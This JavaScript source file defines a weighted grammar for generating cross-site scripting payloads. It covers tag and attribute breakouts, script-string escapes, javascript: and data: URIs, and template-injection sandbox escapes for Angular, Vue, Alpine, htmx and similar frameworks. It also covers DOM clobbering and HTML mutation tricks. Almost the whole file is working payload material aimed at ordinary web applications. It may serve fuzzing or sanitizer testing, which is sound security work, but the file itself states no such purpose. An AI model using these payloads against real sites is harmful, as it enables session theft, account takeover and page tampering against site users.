import { XSS_MARKUP } from './xss-markup.js'
import { XSS_SCRIPT } from './xss-script.js'

/** What no grammar sign stands for: form feed, the line separators of JavaScript, zero width space. */
const FF = '\f'
const LS = '\u2028'
const PS = '\u2029'
const ZWSP = '\u200b'

/** The families and their contexts: breakouts, templates, mutation, clobbering, encodings, ordinary values around. */
const XSS_FAMILIES = String.raw`
xs.html: 7× ‹xs.script›
  6× ‹xs.image›
  2× ‹xs.media›
  6× ‹xs.svg›
  6× ‹xs.elem›
  3× ‹xs.focus›
  4× ‹xs.frame›
  4× ‹xs.link›
  4× ‹xs.basic›
  ‹xs.math›
  ‹xs.style›
  ‹xs.filter›
  ‹xs.mutant›
xss/script 7: ‹xs.script›
xss/image 5: ‹xs.image›
xss/media 2: ‹xs.media›
xss/svg 6: ‹xs.svg›
xss/math 1: ‹xs.math›
xss/element 7: ‹xs.elem›
xss/focus 3: ‹xs.focus›
xss/frame 4: ‹xs.frame›
xss/link 4: ‹xs.link›
xss/style 2: ‹xs.style›
xss/css 1: ‹xs.css›
xss/dangling 1: ‹xs.dangling›
xss/filter 4: ‹xs.filter›

xs.closer = "> "> "> "> "> "> "> "> "> "> '> '> '> '> '> '> '> > > > "/> "/> '/> '"> '"> "'> "'> ´> \"> \'> \\"> "␠/>
  ")> "]> "}> }"> "))> "">< ">< ">> --> "--> '--> --!> *//--> ]]> </‹script¦SCRIPT¦ScRiPt¦script␠›>
  </‹script¦SCRIPT¦ScRiPt¦script␠›> </‹script¦SCRIPT¦ScRiPt¦script␠›>
  ‹"¦'¦›></‹script¦title¦textarea¦style¦select¦option¦a¦div¦td¦span¦form¦iframe¦noscript¦xmp¦button¦p›>
  ‹"¦'¦›></‹script¦title¦textarea¦style¦select¦option¦a¦div¦td¦span¦form¦iframe¦noscript¦xmp¦button¦p›>
  </‹title¦textarea¦style¦select¦noscript¦xmp¦iframe¦noembed¦noframes¦template¦plaintext¦object¦math¦svg¦head¦option¦button¦a¦td¦div¦label¦h1›>
  </‹title¦textarea¦style¦select¦noscript¦xmp¦iframe¦noembed¦noframes¦template¦plaintext¦object¦math¦svg¦head¦option¦button¦a¦td¦div¦label¦h1›>
  </‹mixed!‹title¦textarea¦style¦noscript¦select››> "></option></select>
  </‹style¦title¦textarea›></‹script¦style¦div›> '"--></style></‹mixed!script›>
  '"></title></textarea></style></noscript></‹script¦xmp›> %22> %27> &quot;> "><‹b¦i¦p¦br¦div¦a¦h1›> "⏎> "␠‹~1-4›="">
  '␠‹~1-3›='> "‹~1-5›> "‹~1-4›=‹~1-3›> ‹n›> ‹n›"> ‹n›'> ‹word›"> ?> %> }}> ;}</style> {}*/</style> */</script>
  ');</script> "};</script> ´;</script> ␀"> ”> ">␠ '>⏎
xs.opener = ∅ ∅ ∅ ∅ ∅ ∅ ∅ ∅ <!-- <" <‹b¦a¦x¦i¦p›␠‹~1-3›=" <‹~1-2›␠' <input␠value=" <script> <textarea> <style> " ' //
  ‹word› ‹rnd› <div␠class=' -- <xmp> ;// <svg> %00 .‹jpg¦html¦png¦pdf› <script>var␠‹~1›=" &‹~1-4›=‹n› #‹~1-5›
xss/breakout 12: 8× ‹xs.closer›‹xs.html›‹xs.opener›
  ‹xs.closer›‹xs.closer›‹xs.html›
  ‹xs.closer›‹xs.html›‹xs.html›
  ‹rnd›‹xs.closer›‹xs.html›‹rnd›
  ‹xs.closer›␠‹xs.html›
  ‹xs.closer›‹xs.text›‹xs.html›
xs.rest = ∅ ∅ ∅ ∅ ∅ ∅ ␠‹~1-3›=" ␠‹~1-3›=" ␠‹~1-3›=" ␠‹~1-3›=' ␠‹~1-3›=' " ' // ␠// > "> < ␠< <!-- ‹&¦;› ␠" ␠‹~1-2›
  ␠style=" ␠accesskey="‹^1› ␠‹xs.decoy› ⏎ ␠"‹~1-3› ␀
xs.attach = ␠ ␠ ␠ ␠ ␠ ␠ ␠ ␠ ∅ ∅ ∅ / / ⇥ ⏎ // ␠/ ; >␠ ␠‹xs.decoy›␠ ${FF} ␠‹~1-4›=‹~1-3›␠ %20 %0a +
xs.own: 9× ‹:ev:‹xs.evhover››
  4× autofocus‹xs.gap›‹:ev:‹xs.evfocus››
  3× ‹:ev:‹xs.ev››
  2× ‹:ev:error›src=‹xs.src›␠
  tabindex=‹#0-9› ‹:ev:‹xs.evfocus››
  id=‹~1-3› tabindex=1 ‹:ev:focusin›
  contenteditable ‹:ev:‹beforeinput¦paste¦input››
  type=image src=‹xs.src› ‹:ev:error›
  accesskey=‹^1› ‹:ev:click›
  style=animation-name:‹~2-8› ‹:ev:animation‹start¦end››
  style="animation-name:‹~2-9›" ‹:ev:‹webkit¦›animation‹start¦end››
  style="transition:‹all¦outline› ‹#1-9›s" ‹:ev:transition‹end¦run››
  style=position:fixed;top:0;left:0;width:100%;height:100% ‹:ev:‹xs.evhover››
  style="font-size:‹#99-999›px;display:block" ‹:ev:‹xs.evhover››
  popover ‹:ev:beforetoggle›
  hidden=until-found ‹:ev:beforematch›
  open ‹:ev:toggle›
  draggable=true ‹:ev:dragstart›
  style=content-visibility:auto ‹:ev:contentvisibilityautostatechange›
  ‹~2-6›=‹~1-4› ‹:ev:‹xs.ev››
  ‹xs.decoy› ‹:ev:‹xs.ev››
xs.inject: 7× ‹xs.own›‹xs.nm›‹xs.eq›‹:q:‹'¦´››‹xs.tight›
  3× ‹xs.own›‹xs.h›
  2× ‹xs.own›‹xs.nm›="‹:q:'›‹xs.js›
  ‹xs.own›‹xs.nm›='‹:q:"›‹xs.js›
  formaction=‹:q:'›‹xs.uri›
  ‹type=submit ¦›formaction="‹:q:'›‹xs.jsuri›
  href="‹:q:'›‹xs.jsuri›
  xlink:href="‹:q:'›‹xs.jsuri›
  src="‹:q:'›‹xs.uri›
  srcdoc="‹:q:'›<script>‹xs.call›</script>
  srcdoc=‹xs.tiny›
  style="‹~1-4›:‹xs.expr›(‹:q:'›‹xs.call›)
  style="‹-moz-binding:url(‹xs.url›#‹~1-4›)¦behavior:url(‹xs.url›)›
  action=‹:q:'›‹xs.jsuri›
  data=‹:q:'›‹xs.uri›
  background="‹:q:'›‹xs.jsuri›
  ng-‹focus¦click¦mouseover¦init›="‹:q:'›constructor.constructor('‹xs.base›(‹n›)')()
  ‹v-on:¦@›‹xs.ev›="‹:q:'›‹xs.call›
  x-‹init¦on:‹xs.ev›¦data›="‹:q:'›‹xs.call›
  hx-on:‹xs.ev›="‹:q:'›‹xs.call›
xss/attribute 12: 8× "‹xs.attach›‹xs.inject›‹xs.rest›
  5× '‹xs.attach›‹xs.own›‹xs.nm›‹xs.eq›‹:q:"›‹xs.tight›‹xs.rest›
  3× '‹xs.attach›‹xs.inject›‹xs.rest›
  3× ␠‹xs.inject›‹xs.rest›
  ‹word›␠‹xs.own›‹xs.h›
  ‹word›"‹xs.attach›‹xs.inject›‹xs.rest›
  ‹n›'‹xs.attach›‹xs.inject›‹xs.rest›
  ´‹xs.attach›‹xs.inject›‹xs.rest›
  \"‹xs.attach›‹xs.inject›‹xs.rest›
  \'‹xs.attach›‹xs.inject›‹xs.rest›
  &quot;‹xs.attach›‹xs.own›‹xs.nm›=‹:q:'›‹xs.tight›␠‹~1-2›=&quot;
  &#‹39¦x27¦34¦x22›;‹xs.attach›‹xs.own›‹xs.nm›=‹:q:´›‹xs.tight›
  %22‹%20¦%0a¦+¦%09¦/›‹xs.own›‹xs.nm›=%22‹:q:%27›‹xs.tight›
  %27‹%20¦%0a¦+›‹xs.own›‹xs.nm›=%27‹:q:%22›‹xs.tight›
  ""‹xs.attach›‹xs.inject›‹xs.rest›
  '"‹xs.attach›‹xs.inject›‹xs.rest›
  ?"‹xs.attach›‹xs.inject›‹xs.rest›
  #"‹xs.attach›‹xs.inject›‹xs.rest›
  ‹noun›.‹jpg¦png¦gif›"‹xs.attach›‹:ev:‹load¦error››‹xs.h›‹xs.rest›
  ‹scheme›://‹host›/"‹xs.attach›‹xs.inject›‹xs.rest›
  http://"‹xs.attach›‹xs.inject›‹xs.rest›
  ‹xs.own›‹xs.nm›=‹:q:'›‹xs.tight›
  ‹xs.own›‹xs.h›
  "‹xs.attach›‹xs.inject› ‹:ev:‹xs.ev››‹xs.h›

xs.op = - - - + * / % ^ | & , < > == != === && || ?? ** >> << >>> in␠ instanceof␠
xs.term = // // // // // // // // ∅ ∅ ;// /* //‹rnd› //‹rnd› <!-- ; //--> --> ⏎// //\ //%0a ;/* ;<!-- };// )//
xs.stop = ; ; ; ; ; ; ; ; ); ); ); }; }; }); }); '); )}; ]); ]; ]}; ]}); }]; }}; }}); }}}); )}); })(); )); ))); ⏎ ;⏎
  ␍⏎ %0a ${LS} ${PS} , + - * | && || ? : ;} ;}} ;}catch(e){} }}catch(e){} );}catch(e){} }else{ }finally{ */ &amp;
  &semi;
xs.qt = ‹=d:'›‹:q:"› ‹=d:'›‹:q:"› ‹=d:'›‹:q:"› ‹=d:'›‹:q:"› ‹=d:'›‹:q:"› ‹=d:'›‹:q:"› ‹=d:'›‹:q:"› ‹=d:"›‹:q:'›
  ‹=d:"›‹:q:'› ‹=d:"›‹:q:'› ‹=d:"›‹:q:'› ‹=d:"›‹:q:'› ‹=d:"›‹:q:'› ‹=d:"›‹:q:'› ‹=d:´›‹:q:'› \‹=d:'›‹:q:"›
  \‹=d:"›‹:q:'› \\‹=d:'›‹:q:"› \\‹=d:"›‹:q:'› ‹=d:&apos;›‹:q:´› ‹=d:&#39;›‹:q:"› ‹=d:&quot;›‹:q:'› ‹=d:\x27›‹:q:\x22›
  ‹=d:\x22›‹:q:\x27› ‹=d:\u0027›‹:q:´› ‹=d:\u0022›‹:q:´› ‹=d:%27›‹:q:%22› ‹=d:%22›‹:q:%27› ‹=d:%5c%27›‹:q:%22›
xss/string 12: 7× ‹xs.qt›‹=p:‹xs.op››‹xs.call›‹=p›‹=d›
  7× ‹xs.qt›‹xs.stop›‹xs.js›‹xs.term›
  3× ‹xs.qt›‹xs.stop›‹xs.js›;‹¦var ›‹=i:‹xs.id››=‹=d›
  2× ‹xs.qt›‹xs.op›‹xs.call›‹xs.op›‹=d›
  ‹xs.qt›‹xs.op›(‹xs.js›)‹xs.op›‹=d›
  ‹xs.qt›‹xs.op›‹xs.call›‹xs.term›
  ‹xs.qt›‹xs.op›‹xs.call›}‹xs.term›
  2× ‹xs.qt›);‹xs.js›;(‹=d›
  ‹xs.qt›});‹xs.js›;({‹=d›:‹=d›
  ‹xs.qt›};‹xs.js›;{‹=d›
  ‹xs.qt›];‹xs.js›;[‹=d›
  ‹xs.qt›,‹xs.call›,‹=d›
  ‹xs.qt›:‹xs.call›,‹=d›‹~1-4›‹=d›:‹=d›
  ‹xs.qt›,‹=d›‹~1-4›‹=d›:‹xs.call›,‹=d›‹~1-3›‹=d›:‹=d›
  ‹xs.qt›?‹xs.call›:‹=d›
  ‹xs.qt›+‹xs.eval›+‹=d›
  ‹xs.qt›in‹xs.call›in‹=d›
  ‹xs.qt›;if(‹n›){‹xs.js›}‹=d›
  ‹xs.qt›){}‹xs.js›;if(‹=d›
  ‹xs.qt›){};‹xs.js›;function ‹xs.id›(‹~1›=‹=d›
  ‹xs.qt›}‹xs.js›;function ‹xs.id›(){‹¦return ›‹=d›
  ‹xs.qt›;}‹xs.js›;function ‹xs.id›(){‹~1›=‹=d›
  ‹word›‹xs.qt›‹=p:‹xs.op››‹xs.call›‹=p›‹=d›
  ‹word›‹xs.qt›‹xs.stop›‹xs.js›‹xs.term›
  ‹xs.qt›‹xs.stop›‹xs.js›;‹=d›
  ‹xs.qt›⏎‹xs.js›⏎‹=d›
  ‹xs.qt›/‹xs.call›/‹=d›
  ‹xs.qt›;/*‹=d›;‹xs.js›/*
  \‹xs.qt›;‹xs.js›//\‹=d›;‹xs.js›//
  ‹xs.qt›><‹=d›;‹xs.js›//
  ‹xs.qt›.constructor.constructor(‹xs.coded›)()//
  ‹xs.qt›[‹xs.call›]//
  §{‹:q:'›‹xs.js›}
  §{‹:q:"›‹xs.call›}‹~0-4›
  ‹word›§{‹:q:'›‹xs.call›}
  ´;‹:q:'›‹xs.js›//
  ´+‹:q:'›‹xs.call›+´
  ´-‹:q:"›‹xs.call›-´
  ´});‹:q:'›‹xs.js›;//
  §{´§{‹:q:'›‹xs.call›}´}
  3× </script><‹script¦SCRIPT¦ScRiPt›>‹:q:'›‹xs.js›</script>
  3× ‹¦'¦"¦';¦";¦")¦'});›</‹script¦SCRIPT¦script ¦script/‹~1-3››>‹xs.html›
  </script><script>‹:q:'›‹xs.js›//
  <!--<script>‹:q:'›</script>‹xs.basic›
  \u003c/script\u003e\u003cscript\u003e‹:q:'›‹xs.call›\u003c/script\u003e
  ‹n›;‹:q:'›‹xs.js›
  ‹n›-‹:q:'›‹xs.call›
  ‹n›);‹:q:'›‹xs.js›;//
  ‹n›}‹:q:'›;‹xs.js›;{
  ‹n›‹xs.stop›‹:q:'›‹xs.js›‹xs.term›
  ‹xs.id›=‹n›;‹:q:'›‹xs.js›
  null;‹:q:'›‹xs.js›//
  /;‹:q:'›‹xs.js›//
  /‹:q:'›.source;‹xs.js›;/
  */‹:q:'›‹xs.js›/*
  ⏎‹:q:'›‹xs.js›//
  ${LS}‹:q:'›‹xs.js›
  ${PS}‹:q:"›‹xs.js›//
  %0a‹:q:'›‹xs.js›//
  %0d%0a‹:q:'›‹xs.js›;
  ‹word›%E2%80%A8‹:q:'›‹xs.js›
  ');‹:q:"›‹xs.js›//');‹xs.js›//";‹xs.js›//");‹xs.js›//--></script>‹xs.basic›
  ';‹:q:"›‹xs.call›//";‹xs.call›//´;‹xs.call›//
  {{{}}};‹:q:'›‹xs.call›//
  );‹:q:'›‹xs.js›;//
  );}‹:q:'›‹xs.js›;{(
  }};‹:q:'›‹xs.js›;{{
  (‹:q:'›‹xs.js›)
  ;‹:q:'›‹xs.js›;
xss/uri [value] 5: 7× ‹:q:‹'¦"¦'››‹xs.jsuri›
  3× ‹:q:'›‹xs.datauri›
  ‹␠¦⇥¦⏎¦%20¦%09¦%01¦%00›‹:q:'›‹xs.jsuri›
  ‹:q:'›‹xs.jsuri›‹#¦?›‹word›
  //‹host›/‹:q:'›‹xs.jsuri›
  ‹:q:'›‹xs.jsuri›//"onclick='‹xs.base›(‹n›)'
  url=‹:q:'›‹xs.jsuri›
  ‹#0-9›;url=‹:q:'›‹xs.uri›
  ‹:q:'›"‹xs.jsuri›"
  /‹word›/../‹:q:'›‹xs.jsuri›
  blob:‹scheme›://‹host›/‹%8›-‹%4›#<script>‹xs.base›(‹n›)</script>
  intent:#Intent;S.browser_fallback_url=‹:q:'›‹xs.jsuri›;end
  ‹~3-7›:‹:q:'›‹xs.jsuri›
  file:///‹~1-5›#‹:q:'›<img src=x onerror=‹xs.call›>
  ‹:q:'›‹percent!‹xs.jsuri››
  ‹:q:'›‹percent!‹xs.datauri››
  ‹:q:'›‹entity!‹xs.jsuri››
  javascript:‹:q:\'›‹xs.call›
xs.ctor: 3× constructor.constructor(‹=q›‹xs.hidden›‹=q›)()
  2× ‹§on¦§eval¦§new¦§watch¦§root¦toString¦valueOf¦§apply¦a¦x¦‹~1››.constructor(‹=q›‹xs.hidden›‹=q›)()
  constructor[‹=q›constructor‹=q›](‹=q›‹xs.base›(‹n›)‹=q›)()
  [].‹pop¦map¦sort¦filter¦at›.constructor(‹=q›‹xs.base›(‹n›)‹=q›)()
  ‹=q›‹~1›‹=q›.constructor.constructor(‹=q›‹xs.base›(‹n›)‹=q›)()
  ‹=q›‹~1›‹=q›.sub.call.call({}[§=‹=q›constructor‹=q›].getOwnPropertyDescriptor((_=‹=q›‹=q›.sub).__proto__,§).value,0,‹=q›‹xs.base›(‹n›)‹=q›)()
  ‹=q›‹~1›‹=q›.constructor.prototype.charAt=[].join;§eval(‹=q›x=1} } };‹xs.base›(‹n›)//‹=q›)
  x={‹=q›y‹=q›:‹=q›‹=q›.constructor.prototype};x[‹=q›y‹=q›].charAt=[].join;§eval(‹=q›x=‹xs.base›(‹n›)‹=q›)
  c=toString.constructor;p=c.prototype;p.toString=p.call;[‹=q›a‹=q›,‹=q›‹xs.base›(‹n›)‹=q›].sort(c)
  toString.constructor.prototype.toString=toString.constructor.prototype.call;[‹=q›a‹=q›,‹=q›‹xs.base›(‹n›)‹=q›].sort(toString.constructor)
  a=toString().constructor.prototype;a.charAt=a.trim;§eval(‹=q›a,‹xs.base›(‹n›),a‹=q›)
  {}.‹=q›‹=q›.valueOf.name.constructor.prototype.charAt=[].concat;§eval(‹=q›exp=‹xs.base›(‹n›)‹=q›)
  !ready && (ready = true) && (!call ? §§watchers[0].get(toString.constructor.prototype) : (a = apply) && (apply = constructor) && (valueOf = call) && (‹=q›‹=q›+‹=q›‹=q›.toString(‹=q›F = Function.prototype;F.apply = F.a;delete F.a;‹xs.base›(‹n›)‹=q›)))
  objectPrototype=({})[[‹=q›__proto__‹=q›]];objectPrototype[[‹=q›__defineSetter__‹=q›]](‹=q›§parent‹=q›,§root.§§postDigest);§eval(‹=q›‹xs.base›(‹n›)‹=q›)
  [‹n›]|orderBy:‹=q›(z=‹xs.base›)(‹n›)‹=q›
  §event.‹path¦composedPath()›|orderBy:‹=q›[].constructor.from([‹n›],‹xs.base›)‹=q›
  §event.view.‹xs.base›(‹n›)
  ‹~1›=[].‹~1›;§event.target.ownerDocument.defaultView.‹xs.base›(‹n›)
  _‹c¦s¦v¦h¦openBlock¦createBlock¦Vue.h¦toDisplayString¦createVNode¦renderList›.constructor(‹=q›‹xs.hidden›‹=q›)()
  _‹c¦openBlock¦Vue.h›.constructor´‹xs.base›(‹n›)´()
  this.constructor.constructor(‹=q›‹xs.hidden›‹=q›)()
  (_=_c.constructor(‹=q›‹xs.base›(‹n›)‹=q›))()
  §‹el¦root¦refs.‹~1-3››.ownerDocument.defaultView.‹xs.base›(‹n›)
  ‹#0-9›[[‹=q›constructor‹=q›]][[‹=q›constructor‹=q›]](‹=q›‹xs.base›(‹n›)‹=q›)()
  constructor.constructor(‹=q›‹unicode!‹xs.base›(‹n›)›‹=q›)()
  constructor.constructor(‹xs.coded›)()
xs.bind = ng-click ng-focus ng-init ng-mouseover ng-mouseenter ng-on-click ng-on-focus ng-on-error ng-blur ng-change ng-paste ng-keydown ng-copy ng-cut data-ng-click data-ng-init x-ng-click ng:click ng_click @click @focus @‹xs.ev› @error v-on:click v-on:‹xs.ev› v-if v-show v-html v-bind:a :a :[0] v-for v-init v-text #default x-init x-data x-on:click x-on:‹xs.ev› x-html x-effect x-text @click.prevent (click) (‹xs.ev›) on-‹xs.ev› [innerHTML] bind-innerHTML on:click hx-on:click hx-on:htmx:load hx-on::load hx-vars hx-vals _ data-hx-on:load data-action data-on-load data-on-click data-bind data-x-init click.delegate click.trigger innerhtml.bind wire:click wire:init wire:model up-on-emitted mv-if
xss/client 6: 4× {{‹:q:'›‹xs.ctor›}}
  2× {{‹:q:"›‹xs.ctor›}}
  2× ‹word›{{‹:q:'›‹xs.ctor›}}
  {{␠‹:q:'›‹xs.ctor›␠}}
  '{{‹:q:"›‹xs.ctor›}}
  ">{{‹:q:'›‹xs.ctor›}}
  ‹[[¦{%¦<%=¦§{¦#{¦{‹~1›:¦@{¦{{{¦{{=¦[(¦{{::¦((¦{{!--}}{{›‹:q:'›‹xs.ctor›‹]]¦}¦%}¦%>¦}}¦}}}¦)]¦))›
  3× <‹=t:‹xs.tag››‹xs.sp›‹ng-app ¦ng-app ng-csp ¦v-cloak ¦x-data ¦data-ng-app ¦tabindex=1 autofocus ¦¦›‹xs.bind›="‹:q:'›‹xs.ctor›"‹xs.end›‹xs.text›
  3× <‹=t:‹xs.tag›› ‹xs.bind›=‹:q:'›‹xs.ctor›‹xs.end›
  "‹xs.attach›‹xs.bind›="‹:q:'›‹xs.ctor›
  <‹=t:‹xs.tag›› ‹xs.bind›="‹:q:'›‹xs.js›">‹xs.text›</‹=t›>
  <input autofocus ng-focus="‹:q:'›‹xs.ctor›">
  <input id=‹~1-3› ng-focus=§event.‹path¦composedPath()›|orderBy:'(z=‹xs.base›)(‹n›)'>
  <div ng-app ng-csp><textarea autofocus ng-focus="d=§event.view.document;d.location.hash.match('x1') ? '' : d.location='//‹host›/‹~1-3›'"></textarea></div>
  <‹=t:‹xs.tag›› ng-app>{{‹:q:'›‹xs.ctor›}}</‹=t›>
  <‹div¦b¦p› ng-include="‹'‹xs.url›'¦'data:text/html,‹xs.tiny›'›">
  <div ng-bind-html="‹~1-4›" ng-init="‹~1-4›='‹xs.tiny›'">
  <x v-html="'‹xs.tiny›'">
  <x v-html=_c.constructor('‹xs.base›(‹n›)')()>
  <component :is="'script'" :src="'‹xs.url›'"></component>
  <component is=script src=‹xs.url›></component>
  <component is=script text=‹xs.base›(‹n›)>
  <teleport to=script:nth-child(‹#1-9›)>‹xs.base›(‹n›)</teleport><script></script>
  <‹div¦p¦b› v-pre><script>‹xs.base›(‹n›)</script></div>
  <div data-bind="‹html:'‹xs.tiny›'¦click:function(){‹xs.base›(‹n›)}¦text:‹xs.base›(‹n›)¦value: ‹xs.base›(‹n›)›"></div>
  <!-- ko if:‹xs.base›(‹n›) --><!-- /ko -->
  <div data-dojo-type="‹~3-6›/form/‹~3-6›" data-dojo-props="‹~1-3›:‹xs.base›(‹n›)"></div>
  <div data-‹toggle¦bs-toggle›=tooltip data-‹bs-¦›html=true ‹title¦data-template¦data-title¦data-bs-title›='‹xs.basic›'>‹xs.text›</div>
  <div data-role=popup id='‹~1-3›--&gt;&lt;‹script¦img src=x onerror=‹xs.base›(‹n›)›&gt;'></div>
  <div data-‹remote¦url¦load¦target¦source›="‹:q:'›‹xs.uri›">
  <a data-‹method¦remote¦confirm›="‹~2-6›" href="javascript:‹xs.base›(‹n›)" data-disable-with="<script>‹xs.base›(‹n›)</script>">‹xs.text›</a>
  <div hx-get="‹xs.url›" hx-trigger="‹load¦every ‹#1-9›s¦revealed›"></div>
  <div hx-on:‹htmx:load¦click¦‹xs.ev››="‹:q:'›‹xs.call›"></‹=t›>
  <x hx-trigger='‹xs.ev›[‹:q:"›‹xs.call›]' hx-get=/>
  <div x-data x-init="‹:q:'›‹xs.js›">
  <div mv-app=‹~2-5› mv-expressions="‹{{ }}¦[ ]›"><b>[self.‹xs.base›(‹n›)]</b></div>
  [self.‹xs.base›(‹n›)]
  [omglol mod 1 mod self.‹xs.base›(‹n›)andlol]
  <script data-main='data:1,‹xs.base›(‹n›)' src='/‹~2-6›/require.js'></script>
  <template is=dom-bind><div five={{insert(me._nodes.0.scriptprop)}} six=‹xs.base›(‹n›)></template>
  <dom-bind><template>‹xs.basic›</template></dom-bind>
  {"type":"‹div¦a¦script›","props":{"dangerouslySetInnerHTML":{"__html":"‹xs.tiny›"}},"key":null,"ref":null,"_owner":null}
  {"$$typeof":"Symbol(react.element)","type":"div","props":{"dangerouslySetInnerHTML":{"__html":"‹json!‹xs.basic››"}}}
  {@html '‹xs.tiny›'}
  {{{‹word›}}}‹xs.basic›
  <%= ‹xs.base›(‹n›) %>‹xs.basic›
  <%- "‹xs.tiny›" %>
  {{#with ‹~1-4›}}‹xs.basic›{{/with}}
  <p :style="{x:‹:q:'›‹xs.ctor›}">
  <div aura:id="‹xs.basic›"></div>
xs.prop = attributes parentNode childNodes nodeName innerHTML getElementById createElement currentScript cookie body location domain implementation all forms documentElement querySelector addEventListener tagName length config settings user defaultAvatar options hasAttribute firstChild removeChild action elements ‹~3-9› ‹^3-7›_‹^3-6› ‹~2-6›‹^1›‹~2-6›
xss/clobber 2: 3× <a id=‹=i:‹xs.prop››><a id=‹=i› name=‹xs.prop› href="‹:q:'›‹‹xs.uri›¦cid:&quot;onerror=‹xs.base›(‹n›)//¦‹~1-4›:‹xs.base›(‹n›)›">
  <a id="‹xs.prop›" href="‹:q:'›‹‹xs.jsuri›¦‹~2-5›:‹xs.base›(‹n›)//¦data:,‹xs.base›(‹n›)//›"></a>
  2× <form id=‹=i:‹xs.prop››><‹output¦input¦button¦img¦fieldset› ‹id¦name›=‹xs.prop›‹ value="‹xs.tiny›"¦ value=javascript:‹xs.base›(‹n›)¦><script>‹xs.base›(‹n›)</script›>
  <form ‹:ev:‹xs.evhover››‹xs.h›‹ id=‹~1-3›¦› tabindex=0><input id=‹attributes¦parentNode¦nodeName¦childNodes›>‹xs.text›
  <form id=‹=i:‹xs.prop›› name=‹xs.prop›><input id=‹xs.prop›></form><form id=‹=i›><img src=x ‹:ev:error›‹xs.h›></form>
  <img name=‹cookie¦getElementById¦currentScript¦body¦querySelector¦createElement› ‹src=‹xs.src› ¦›‹:ev:error›‹xs.h›>
  <iframe name=‹=i:‹xs.prop›› srcdoc="<iframe srcdoc='<a id=‹xs.prop› name=‹xs.prop› href=&quot;‹xs.url›&quot;></a>' name=‹xs.prop›>"></iframe>
  <iframe name=‹xs.prop› srcdoc="<a id=‹xs.prop› href=javascript:‹xs.base›(‹n›)>"></iframe><style>@import '//‹host›/'</style>
  <base id=‹xs.prop› href="‹xs.url›">
  <img id=‹xs.prop› name=currentScript src="‹xs.url›">
  <object id=‹=i:‹xs.prop››><object id=‹=i› name=‹xs.prop›></object></object><svg ‹:ev:load›‹xs.h›>
  <embed name=‹xs.prop› src="‹:q:'›‹xs.uri›">
  <input name=‹attributes¦action¦submit¦method›><form action="‹:q:'›‹xs.jsuri›" name=‹attributes¦body›>
  <svg id=‹xs.prop› ‹:ev:load›‹xs.h›><desc id=‹xs.prop›>
xs.raw = style title textarea noscript xmp iframe noembed noframes script template plaintext select option listing comment
xs.outer = svg math table form select template noscript details p div object button math><mtext math><annotation-xml svg><desc svg><title svg><foreignObject math><mi math><mo form><math table><tr><td select><option frameset a b nobr ruby><rt dl><dt h1 marquee li caption colgroup body
xs.twist = </p> </form> </br> </table> <p> <br> <form> <option> <table> <mglyph> <malignmark> <b> <a> <image> <annotation-xml␠encoding="text/html"> <font␠color=red> <font␠face> <desc> <title> <mtext> <svg> <math> <style> <tbody> <nobr> <h1> <select> ∅ ∅
xs.mutant: 4× <‹=a:‹xs.outer››>‹xs.twist›<‹=b:‹xs.raw››><‹~1-3› ‹id¦title¦alt¦‹~2-4››=‹=o:‹"¦'››</‹=b›>‹xs.basic›‹=o›>
  3× <‹=a:‹xs.outer››>‹xs.twist›‹xs.twist›<‹=b:‹xs.raw››><!--</‹=b›>‹xs.basic›-->
  2× <‹=a:‹xs.outer››>‹xs.twist›<‹=b:‹xs.raw››><!--</‹=b›><‹img¦a¦p› ‹title¦alt¦id›="--‹&gt;¦>›‹xml!‹xs.basic››">
  <‹=b:‹xs.raw››><‹=a:‹xs.raw››></‹=b›>‹xs.basic›</‹=a›>
  <‹=b:‹xs.raw››><‹~1-3› ‹~2-5›="</‹=b›>‹xs.basic›"></‹=b›>
  <‹=b:‹xs.raw››></‹=b›‹/¦ ¦⏎¦⇥›>‹xs.basic›
  <‹=b:‹xs.raw››>‹xml!‹xs.basic››</‹=b›>
  <form><math><mtext></form><form><mglyph><‹=b:‹style¦svg››>‹</math>¦<mtext>›‹xs.basic›
  <form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>‹xs.basic›">
  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;‹xml!‹xs.basic››">
  <math><mtext><table><mglyph><style><math>‹xs.basic›
  <svg><‹=b:‹style¦title¦desc¦p››><![CDATA[</‹=b›>]]>‹xs.basic›</svg>
  <svg><![CDATA[</svg>‹xs.basic›]]>
  <![CDATA[<‹!--¦›>‹xs.basic›]]>
  <svg></p><title><a id="</title>‹xs.basic›"></title></svg>
  <math><annotation-xml encoding="‹text/html¦application/xhtml+xml›"><style><img title="</style>‹xs.basic›">
  <noscript><‹p¦style¦img¦a› ‹title¦alt¦id›="</noscript>‹xs.basic›">
  <‹table¦select›><‹noscript¦template¦style›>‹xs.basic›
  <select><‹style¦template¦iframe›></select>‹xs.basic›
  ‹×10-60:<‹div¦b¦p¦font›>›‹xs.basic›
  ‹×12-80:<‹div¦font¦b¦form›>›<svg><style><a title="</style>‹xs.basic›">
  <‹x¦a› title="´´‹:ev:error›‹xs.h›" src=x>
  <img alt="´´‹:ev:error›‹xs.h›" src=‹~1-3›>
  <listing>&lt;img src=x onerror=&quot;‹xs.base›(‹n›)&quot;&gt;</listing>
  <p style="font-family:'\22\3bx:expression(‹xs.base›(‹n›))/*'">
  <div style="font-family:'foo&#x27;x;x:expression(‹xs.base›(‹n›));y:'">
  <article xmlns="><img src=x onerror=‹xs.base›(‹n›)"></article>
  <article xmlns="urn:img src=x onerror=‹xs.base›(‹n›)//">123
  <!--‹>¦->¦-->¦--!>¦´¦ -- >¦<! --¦-- ->›‹xs.basic›‹-->¦›
  <!-- --\x3e> ‹xs.basic› -->
  <!--[if]>‹xs.basic›<![endif]-->
  <!--[if<‹xs.basic›-->
  <comment><img src="</comment>‹xs.basic›">
  <?‹xml-stylesheet¦php¦~¦‹~2-4›› >‹xs.basic› ?>
  <?xml version="1.0"?><‹~1-4› xmlns="http://www.w3.org/1999/xhtml">‹xs.basic›
  <!DOCTYPE ‹~1-3› [<!ENTITY ‹=e:‹~1-3›› "&#60;img src=x onerror=‹xs.base›(‹n›)&#62;">]>&‹=e›;
  <! ‹xs.basic›>
  <//‹xs.basic›
  </‹~1-3› ‹~1-4›="‹xs.basic›
  <‹~1-4› <‹xs.basic›
  <‹=t:a›><‹=t›><math><brute href="javascript:‹xs.base›(‹n›)">‹xs.text›</brute></math>
  <font face="‹~2-5›''&quot;><img src=x onerror=‹xs.base›(‹n›)>">
  <svg><font color><title><![CDATA[</title>‹xs.basic›]]>
  <template><‹~1-4›></template>‹xs.basic›
  <embed><iframe><‹~1-3› title="</iframe>‹xs.basic›">
xss/mutation 5: 7× ‹xs.mutant›
  2× ‹xs.closer›‹xs.mutant›
